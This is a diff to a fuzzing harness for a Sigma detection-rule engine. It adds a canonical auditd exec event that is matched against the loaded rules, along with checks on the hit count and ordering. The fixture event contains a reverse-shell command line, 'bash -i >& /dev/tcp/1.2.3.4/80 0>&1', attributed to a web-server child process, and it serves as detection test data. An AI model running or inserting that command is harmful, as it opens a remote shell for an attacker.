@@ -4,7 +4,8 @@
  * The input is rule text (YAML, one or more documents).  It is loaded into a
  * fresh rule set, then every loaded rule is matched against three fixed
  * events (a process creation with the usual fields, an auditd record, an
- * sshd line for keyword rules).
+ * sshd line for keyword rules) and, through sigma_match_event, a canonical
+ * auditd exec event (both record views).
  *
  * Properties checked:
  *   - loading returns a count, NJ_EFORMAT or -ENOMEM, never anything else,
@@ -19,6 +20,8 @@
  */
 #include "sigma.h"
 #include "util.h"
+
+#include <jansson.h>
 
 #include <stdint.h>
 #include <stdlib.h>
@@ -79,6 +82,21 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
         for (int i = 0; i < k && i < 8; i++)
             if (hits[i].rule < 0 || hits[i].rule >= n || !hits[i].title) abort();
     }
+    static json_t *canon;
+    if (!canon) {
+        json_error_t je;
+        canon = json_loads("{\"v\":1,\"id\":\"a:1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
+                           "\"user\":{\"name\":\"www-data\",\"uid\":33,\"euid\":33,\"auid\":4294967295},"
+                           "\"process\":{\"pid\":9,\"ppid\":8,\"path\":\"/usr/bin/bash\",\"argv\":[\"bash\",\"-i\"],"
+                           "\"cmdline\":\"bash -i >& /dev/tcp/1.2.3.4/80 0>&1\",\"cwd\":\"/tmp\"},"
+                           "\"parent\":{\"pid\":8,\"path\":\"/usr/sbin/apache2\"},"
+                           "\"raw\":\"type=SYSCALL msg=audit(1.2:3): syscall=59 key=\\\"exec\\\"\"}", 0, &je);
+        if (!canon) abort();
+    }
+    int k = sigma_match_event(rs, canon, hits, 8);
+    if (k < 0 || k > n) abort();
+    for (int i = 0; i < k && i < 8; i++)
+        if (hits[i].rule < 0 || hits[i].rule >= n || (i && hits[i].rule <= hits[i - 1].rule)) abort();
     sigma_rules_free(rs);
     if (nj_mem_in_use() != before) abort();
     free(copy);
